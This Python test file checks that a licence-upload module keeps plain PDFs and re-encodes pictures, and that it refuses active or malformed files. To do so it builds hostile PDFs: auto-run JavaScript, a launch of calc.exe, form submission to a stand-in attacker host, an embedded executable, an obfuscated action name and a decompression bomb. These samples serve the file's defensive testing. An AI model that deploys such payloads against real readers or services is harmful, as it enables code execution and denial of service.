"""What becomes of a document that somebody sends as a licence."""

import io
import zlib

import pikepdf
import pytest
from pikepdf import Dictionary, Name, Pdf
from PIL import Image

from outreach import pictures
from outreach.errors import Refused
from outreach.licences import documents
from tests.test_pictures import CANARY, sent, with_secrets


def pdf(change=lambda pdf: None, **how):
    """A PDF of one empty page."""
    made = Pdf.new()
    made.add_blank_page()
    change(made)
    file = io.BytesIO()
    made.save(file, **how)
    return file.getvalue()


def starts(**action):
    def change(made):
        made.Root.OpenAction = made.make_indirect(Dictionary(**action))

    return pdf(change)


def on_a_button(made):
    made.pages[0].obj.Annots = pikepdf.Array(
        [Dictionary(Type=Name.Annot, A=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))]
    )


def in_names(made):
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=pikepdf.Array()))


def with_a_file(made):
    made.attachments["evil.exe"] = b"MZ"


def bomb():
    """A PDF of a few kilobytes, one object of which unpacks to 300 MB."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"10 0 ") + b"".join(
        packer.compress(b" " * 10_000_000) for _ in range(30)
    )
    packed += packer.flush()
    file, places = io.BytesIO(), {}
    file.write(b"%PDF-1.5\n")
    stream = b"<</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    for number, body in (
        (1, b"<</Type/Catalog/Pages 2 0 R/X 10 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (4, stream + packed + b"\nendstream"),
    ):
        places[number] = file.tell()
        file.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    start = file.tell()
    rows = [(0, 0), *((1, places[n]) for n in places), *[(0, 0)] * 5, (2, 4), (1, start)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + b"\0" for kind, place in rows)
    file.write(
        b"11 0 obj\n<</Type/XRef/Size 12/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )
    return file.getvalue()


def refused(raw):
    with pytest.raises(Refused) as error:
        documents.read(raw)
    assert error.value.field == "document"
    return error.value.message


def test_a_pdf_is_kept_as_it_was_sent():
    raw = pdf()

    assert documents.read(raw) == documents.Document(raw, "application/pdf")


def test_a_pdf_with_links_is_kept():
    def change(made):
        link = Dictionary(S=Name.URI, URI="https://example.org")
        made.pages[0].obj.Annots = pikepdf.Array([Dictionary(Type=Name.Annot, A=link)])

    assert documents.read(pdf(change)).media_type == "application/pdf"


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_picture_is_drawn_anew(kind):
    document = documents.read(sent(kind))

    assert document.media_type == "image/webp"
    assert Image.open(io.BytesIO(document.data)).format == "WEBP"


def test_where_a_photo_was_taken_is_not_kept():
    assert CANARY in with_secrets()
    assert CANARY not in documents.read(with_secrets()).data


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"hello",
        b"<html><script>alert(1)</script>",
        b"GIF89a" + b"\0" * 40,
        b"MZ",
        b"\0%PDF-1.7",
    ],
    ids=["nothing", "text", "html", "gif", "program", "not at its start"],
)
def test_what_is_no_document_is_refused(raw):
    assert refused(raw) == documents.NO_DOCUMENT


@pytest.mark.parametrize("raw", [b"%PDF-1.7 hello", pdf()[:200], pdf().replace(b"xref", b"nope")])
def test_what_only_calls_itself_a_pdf_is_refused(raw):
    assert refused(raw) == documents.NO_PDF


@pytest.mark.parametrize("user", ["", "secret"])
def test_an_encrypted_pdf_is_refused(user):
    raw = pdf(encryption=pikepdf.Encryption(owner="owner", user=user))

    assert refused(raw) == documents.LOCKED


@pytest.mark.parametrize(
    "raw",
    [
        starts(S=Name.JavaScript, JS="app.alert(1)"),
        starts(S=Name.Launch, F="calc.exe"),
        starts(S=Name.SubmitForm, F="https://evil.example"),
        starts(S=Name.GoTo, Next=Dictionary(S=Name.Launch, F="calc.exe")),
        pdf(on_a_button),
        pdf(in_names),
        pdf(with_a_file),
        pdf(with_a_file, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        starts(S=Name.JavaScript, JS="app.alert(1)").replace(b"/JavaScript", b"/Jav#61Script"),
    ],
    ids=["script", "launch", "submit", "next", "button", "names", "file", "packed", "disguised"],
)
def test_a_pdf_that_does_something_is_refused(raw):
    assert refused(raw) == documents.ACTIVE


def test_a_pdf_that_unpacks_to_far_more_is_refused():
    raw = bomb()

    assert len(raw) < 1_000_000
    assert refused(raw) == documents.NO_PDF


def test_a_picture_bomb_is_refused():
    raw = sent("PNG", (8_000, 8_000), "L")

    assert len(raw) < 1_000_000
    assert refused(raw) == pictures.TOO_LARGE


def test_a_file_of_more_than_ten_megabytes_is_refused():
    raw = pdf() + b"\n" * documents.MOST_BYTES

    assert refused(raw) == documents.TOO_LARGE
